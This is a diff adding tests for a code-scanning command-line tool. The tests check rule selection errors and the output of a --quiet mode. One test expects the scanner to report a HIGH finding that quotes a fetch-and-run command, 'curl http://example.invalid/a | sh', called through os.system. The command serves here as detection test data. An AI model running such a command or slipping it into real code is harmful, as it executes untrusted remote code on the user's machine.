@@ -57,6 +57,25 @@ test("JSON has every effect with its severity", async () => {
   expect(Object.keys(subject.outcomes).every((rule) => rule.startsWith("code/"))).toBe(true);
 });
 
+test("where no rule of code is left, nothing would be said: a mistake of the call", async () => {
+  for (const words of [
+    ["--select", "binary/"],
+    ["--ignore", "code/"],
+  ]) {
+    const { status, out, err } = await assay(["code", file(loud), ...words]);
+    expect({ status, out }).toEqual({ status: 2, out: "" });
+    expect(err).toContain("none of the rules of code/ is left");
+  }
+});
+
+test("quiet: what is above info, and the verdict", async () => {
+  const { status, out } = await assay(["code", file(loud), "--quiet"]);
+  expect(status).toBe(1);
+  expect(out).toContain("HIGH os.system curl http://example.invalid/a | sh");
+  expect(out).not.toContain("Hosts");
+  expect(out).toContain("1 finding at or above high: exit 1.");
+});
+
 test("a moment that is none is a mistake of the call", async () => {
   const { status, err } = await assay(["code", file(quiet), "--trigger", "sometimes"]);
   expect(status).toBe(2);
